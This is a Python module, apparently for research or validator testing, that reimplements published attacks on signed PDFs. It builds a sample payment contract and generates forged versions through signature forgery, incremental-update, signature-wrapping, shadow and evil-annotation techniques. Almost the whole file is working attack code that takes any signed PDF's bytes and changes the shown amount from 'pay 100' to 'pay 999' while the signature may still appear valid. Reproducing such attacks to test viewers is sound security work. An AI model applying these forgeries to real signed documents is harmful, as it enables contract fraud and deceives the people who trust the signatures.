"""Published attacks on signed PDFs, rebuilt from their descriptions on small files of our own.

Sources: "1 Trillion Dollar Refund" (CCS 2019): USF, ISA, SWA; "Shadow Attacks" (NDSS 2021): hide,
replace, hide-and-replace; "Breaking the Specification: PDF Certification" (S&P 2021): EAA, SSA.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

HELLO = b"BT /F1 24 Tf 72 700 Td (pay 100) Tj ET"
FORGED = b"BT /F1 24 Tf 72 700 Td (pay 999) Tj ET"
OVERLAY = b"1 1 1 rg 60 690 300 40 re f"


def stream(content: bytes, extra: bytes = b"") -> bytes:
    """A stream object's body."""
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(content), extra, content)


def build_pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
    """A PDF with a classic cross-reference table."""
    body = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets: dict[int, int] = {}
    for number, item in sorted(objects.items()):
        offsets[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, item)
    size = max(objects) + 1
    table = b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        table += b"%010d 00000 %s \n" % (
            offsets.get(number, 0),
            b"n" if number in offsets else b"f",
        )
    ident = b"/ID [<%s> <%s>]" % (b"ab" * 16, b"cd" * 16)
    return (
        body
        + table
        + b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n"
        % (
            size,
            root,
            ident,
            len(body),
        )
    )


def contract(*, field: bool = False, hidden: bool = False) -> bytes:
    """One page that says what is to be paid, over which an attacker can prepare something."""
    acro = b" /AcroForm << /Fields [8 0 R] /DA (/F1 12 Tf) >>" if field else b""
    annots = b" /Annots [8 0 R]" if field else b""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R%s >>" % acro,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 6 0 R]"
        b" /Resources << /Font << /F1 5 0 R >> >>%s >>" % annots,
        4: stream(HELLO),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        6: stream(OVERLAY if hidden else b""),
        7: stream(FORGED),
    }
    if field:
        objects[8] = (
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (100) /Rect [72 600 200 620]"
            b" /P 3 0 R /AP << /N 9 0 R >> /DA (/F1 12 Tf) >>"
        )
        objects[9] = stream(b"BT /F1 12 Tf (100) Tj ET", b" /Type /XObject /Subtype /Form /BBox [0 0 128 20]")
    return build_pdf(objects)


@dataclass(frozen=True, slots=True, kw_only=True)
class Layout:
    """Where a file's last cross-reference section and trailer values are."""

    startxref: int
    size: int
    root: bytes


def layout(data: bytes) -> Layout:
    """Read the last trailer of a file with classic tables."""
    return Layout(
        startxref=int(re.findall(rb"startxref\s+(\d+)", data)[-1]),
        size=int(re.findall(rb"/Size (\d+)", data)[-1]),
        root=re.findall(rb"/Root (\d+ \d+ R)", data)[-1],
    )


def append_update(
    data: bytes,
    objects: dict[int, bytes],
    *,
    root: bytes | None = None,
    pointers: dict[int, int] | None = None,
    table: bool = True,
    end: bool = True,
) -> bytes:
    """An incremental update: new or changed objects, or pointers to bytes that are already there."""
    old = layout(data)
    body = data if data.endswith(b"\n") else data + b"\n"
    offsets = dict(pointers or {})
    for number, item in sorted(objects.items()):
        offsets[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, item)
    if not table:
        return body
    place = len(body)
    body += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in sorted(offsets.items()):
        body += b"%d 1\n%010d 00000 n \n" % (number, offset)
    size = max([old.size, *(number + 1 for number in offsets)])
    body += b"trailer\n<< /Size %d /Root %s /Prev %d >>\n" % (size, root or old.root, old.startxref)
    return body + (b"startxref\n%d\n%%%%EOF\n" % place if end else b"")


def signature_object(data: bytes) -> tuple[int, bytes]:
    """Number and body of the signature dictionary."""
    match = re.search(rb"(\d+) 0 obj\n(<<(?:(?!endobj).)*?/ByteRange.*?)\nendobj", data, re.DOTALL)
    assert match is not None
    return int(match[1]), match[2]


def object_offset(data: bytes, number: int) -> int:
    """Where an object starts, the first time."""
    return data.index(b"\n%d 0 obj" % number) + 1


def universal_forgeries(signed: bytes) -> dict[str, bytes]:
    """USF: what a viewer that stumbles over the signature shows as valid."""
    number, body = signature_object(signed)
    changes = {
        "no byte range": re.sub(rb"/ByteRange \[[^\]]*\]", b"", body),
        "null byte range": re.sub(rb"/ByteRange \[[^\]]*\]", b"/ByteRange null", body),
        "zero byte range": re.sub(rb"/ByteRange \[[^\]]*\]", b"/ByteRange [0 0 0 0]", body),
        "negative byte range": re.sub(rb"/ByteRange \[[^\]]*\]", b"/ByteRange [0 -1 -1 0]", body),
        "huge byte range": re.sub(rb"/ByteRange \[[^\]]*\]", b"/ByteRange [0 99999999 1 99999999]", body),
        "no contents": re.sub(rb"/Contents <[^>]*>", b"", body),
        "null contents": re.sub(rb"/Contents <[^>]*>", b"/Contents null", body),
        "empty contents": re.sub(rb"/Contents <[^>]*>", b"/Contents <>", body),
        "zero contents": re.sub(rb"/Contents <[^>]*>", b"/Contents <00>", body),
    }
    return {
        name: append_update(signed, {number: changed, 4: stream(FORGED)}) for name, changed in changes.items()
    }


def incremental_forgeries(signed: bytes) -> dict[str, bytes]:
    """ISA: content changed after the signature, announced less and less openly."""
    number, body = signature_object(signed)
    size = layout(signed).size
    forged = {4: stream(FORGED)}
    return {
        "plain update": append_update(signed, forged),
        "without cross-reference table": append_update(signed, forged, table=False),
        "without end marker": append_update(signed, forged, end=False),
        "empty cross-reference table": append_update(signed, {}),
        "copied signature": append_update(signed, {**forged, size: body}),
        "comment behind the end": signed + b"% " + FORGED + b"\n",
        "second end marker": signed + b"%%EOF\n",
        "unused object": append_update(signed, {size: stream(FORGED)}),
        "other root": append_update(
            signed,
            {
                size: b"<< /Type /Catalog /Pages %d 0 R >>" % (size + 1),
                size + 1: b"<< /Type /Pages /Kids [] /Count 0 >>",
            },
            root=b"%d 0 R" % size,
        ),
        "signature field emptied": append_update(signed, {number: b"null", **forged}),
    }


def wrapping_forgery(signed: bytes) -> bytes:
    """SWA: the signed second part moved down, forged objects in the widened gap."""
    number, body = signature_object(signed)
    match = re.search(rb"/ByteRange \[\s*0 (\d+) (\d+) (\d+)", body)
    assert match is not None
    length, resume, rest = (int(value) for value in match.groups())
    head, gap, tail = signed[:length], signed[length:resume], signed[resume : resume + rest]
    old = layout(signed)
    for _ in range(3):  # until the numbers inside have settled
        injected = b"\n4 0 obj\n%s\nendobj\n" % stream(FORGED)
        place_of_forged = length + len(gap) + 1
        moved = re.sub(
            rb"/ByteRange \[[^\]]*\]",
            b"/ByteRange [0 %d %d %d]" % (length, max(resume, old.startxref) + 4096, rest),
            body,
        )
        place_of_signature = length + len(gap) + len(injected)
        injected += b"%d 0 obj\n%s\nendobj\n" % (number, moved)
    table = b"xref\n0 1\n0000000000 65535 f \n4 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (
        place_of_forged,
        number,
        place_of_signature,
    )
    table += b"trailer\n<< /Size %d /Root %s >>\nstartxref\n%d\n%%%%EOF\n" % (old.size, old.root, 0)
    start = max(resume, old.startxref) + 4096
    filler = start - (length + len(gap) + len(injected) + len(table))
    return head + gap + injected + b" " * max(0, filler) + table + tail


def shadow_forgeries(hiding: bytes, fielded: bytes) -> dict[str, bytes]:
    """Shadow attacks: what was prepared before signing is switched afterwards.

    Args:
        hiding: signed `contract(hidden=True)`: an overlay hides what is written.
        fielded: signed `contract(field=True)`: a text field shows the amount.
    """
    swapped = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (100) /Rect [72 600 200 620]"
        b" /P 3 0 R /AP << /N 7 0 R >> /DA (/F1 12 Tf) >>"
    )
    return {
        "hide": append_update(hiding, {6: stream(b"")}),
        "hide by freeing": append_update(hiding, {6: b"null"}),
        "replace the font": append_update(
            hiding, {5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Symbol >>"}
        ),
        "replace behind the field": append_update(fielded, {8: swapped}),
        "hide and replace by pointer": append_update(hiding, {}, pointers={4: object_offset(hiding, 7)}),
        "hide and replace by page": append_update(
            hiding,
            {
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 7 0 R"
                b" /Resources << /Font << /F1 5 0 R >> >> >>"
            },
        ),
    }


def evil_annotation(certified: bytes) -> bytes:
    """EAA: an annotation over the certified text, allowed by DocMDP 3 on paper."""
    size = layout(certified).size
    note = (
        b"<< /Type /Annot /Subtype /FreeText /Rect [60 690 360 730] /Contents (pay 999)"
        b" /DA (/F1 24 Tf) /AP << /N %d 0 R >> /P 3 0 R >>" % (size + 1)
    )
    look = stream(
        OVERLAY + b" " + FORGED,
        b" /Type /XObject /Subtype /Form /BBox [60 690 360 730] /Resources << /Font << /F1 5 0 R >> >>",
    )
    page = re.search(rb"\n3 0 obj\n(<<.*?>>)\nendobj", certified[::1], re.DOTALL)
    assert page is not None
    bodies = re.findall(rb"\n3 0 obj\n(.*?)\nendobj", certified, re.DOTALL)
    changed = re.sub(rb"/Annots \[\s*", b"/Annots [ %d 0 R " % size, bodies[-1])
    if b"/Annots" not in changed:
        changed = changed[: changed.rindex(b">>")] + b"/Annots [ %d 0 R ] >>" % size
    return append_update(certified, {size: note, size + 1: look, 3: changed})
